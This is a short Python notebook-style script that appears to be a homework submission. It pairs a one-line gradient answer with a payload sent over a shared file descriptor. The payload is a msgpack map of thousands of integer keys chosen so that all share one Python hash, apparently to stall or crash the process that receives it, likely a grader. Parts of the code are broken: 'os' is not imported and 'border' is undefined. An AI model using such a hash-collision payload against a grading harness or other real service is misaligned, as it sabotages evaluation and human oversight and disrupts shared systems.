# /// attack
# tries = "a map whose integer keys all have one hash"
# total = 2
# cells = ["cut"]
# [parts]
# 2d = "right"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %% shared border

# %%
def send(data):
    whole = len(data).to_bytes(4, "little") + data
    while whole:
        whole = whole[os.write(border(), whole) :]

# %%
import msgpack

keys = {(2**61 - 1) * number: None for number in range(1, 8)}
keys = [(2**61 - 1) * number for number in range(8)] * 2000
body = b"".join(msgpack.packb(key) + b"\xc0" for key in keys)
send(b"\xdf" + len(keys).to_bytes(4, "big") + body)
